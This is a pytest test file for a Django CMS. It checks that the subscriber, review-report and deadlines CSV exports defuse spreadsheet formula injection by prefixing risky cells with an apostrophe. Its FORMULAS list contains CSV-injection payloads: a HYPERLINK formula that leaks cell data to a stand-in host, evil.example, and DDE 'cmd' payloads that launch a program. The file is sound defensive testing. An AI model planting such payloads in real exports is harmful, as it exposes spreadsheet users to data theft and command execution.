"""No spreadsheet formula in any CSV we write (OWASP CSV injection): a cell
that starts with =, +, -, @, a tab or a carriage return is written with a
leading ' and stays readable, in the subscriber export, the review report
(admin and `manage.py review_report`) and the deadlines export; each also
comes as `;`-separated UTF-8 with BOM for Swedish Excel."""

import csv
import datetime
import io

import pytest

from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from cms.infra.csv_export import FORMULA_STARTS, csv_cell, csv_text
from cms.models import DeadlineKind, ReportingDeadline
from tests.factories import (
    InterventionPageFactory,
    OrganisationPageFactory,
    PersonFactory,
    ProjectPageFactory,
    publish,
)

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def assert_no_formula(rows, *, expected: list[str]):
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    for value in expected:  # readable: the value behind one apostrophe
        assert "'" + value in cells, value


def test_csv_cell():
    for value in FORMULAS:
        assert csv_cell(value) == "'" + value
    assert csv_cell("Botkyrka kommun") == "Botkyrka kommun"
    assert csv_cell(-3) == "-3" and csv_cell(2.5) == "2.5"
    assert csv_cell(2.5, decimal_comma=True) == "2,5"
    text = csv_text([["a", 1.5], ["=1", None]], variant="excel-sv")
    assert text == "\ufeffa;1,5\r\n'=1;\r\n"


@pytest.fixture
def hostile_subscribers(region):
    from newsletter.models import Subscriber

    for n, value in enumerate(FORMULAS):
        Subscriber.objects.create(
            region=region, email=f"s{n}@example.se", name=value, organisation=value
        )


@pytest.mark.parametrize("variant,delimiter", [("comma", ","), ("excel-sv", ";")])
def test_subscriber_export(
    client, central_admin, hostile_subscribers, variant, delimiter
):
    client.force_login(central_admin)
    response = client.get(reverse("samverkan_newsletter_export"), {"csv": variant})
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff") == (variant == "excel-sv")
    rows = rows_of(text, delimiter)
    assert len(rows) == len(FORMULAS) + 1 and len(rows[0]) > 5
    assert_no_formula(rows, expected=FORMULAS)


@pytest.fixture
def hostile_organisations(region):
    titles = []
    for n, value in enumerate(FORMULAS):
        organisation = OrganisationPageFactory(parent=region, title=value, slug=f"o{n}")
        publish(InterventionPageFactory(parent=organisation))
        organisation.refresh_from_db()
        titles.append(organisation.title)  # as stored (Wagtail trims a title)
    assert all(title.startswith(FORMULA_STARTS) for title in titles)
    return titles


def test_review_report_in_the_admin(client, central_admin, hostile_organisations):
    client.force_login(central_admin)
    url = reverse("samverkan_review_report")
    for variant, delimiter in (("comma", ","), ("excel-sv", ";")):
        response = client.get(url, {"format": "csv", "csv": variant})
        assert_no_formula(
            rows_of(response.content.decode(), delimiter),
            expected=hostile_organisations,
        )


def test_review_report_command(hostile_organisations, tmp_path):
    call_command(
        "review_report", output=str(tmp_path), excel=True, stdout=io.StringIO()
    )
    (path,) = tmp_path.glob("*.csv")
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    assert_no_formula(rows_of(text, ";"), expected=hostile_organisations)


def test_deadlines_export(client, central_admin, org_a):
    project = publish(ProjectPageFactory(parent=org_a, title=FORMULAS[0]))
    due = timezone.localdate() + datetime.timedelta(days=30)
    for value in FORMULAS[1:]:
        ReportingDeadline.objects.create(
            project=project,
            kind=DeadlineKind.OTHER,
            due_on=due,
            description=value,
            responsible=PersonFactory(organisation=org_a, name=value),
        )
    client.force_login(central_admin)
    for variant, delimiter in (("comma", ","), ("excel-sv", ";")):
        response = client.get(
            reverse("samverkan_deadlines"), {"export": "csv", "csv": variant}
        )
        assert response.status_code == 200
        text = b"".join(response.streaming_content).decode("utf-8")
        assert text.startswith("\ufeff") == (variant == "excel-sv")
        assert_no_formula(rows_of(text, delimiter), expected=FORMULAS)
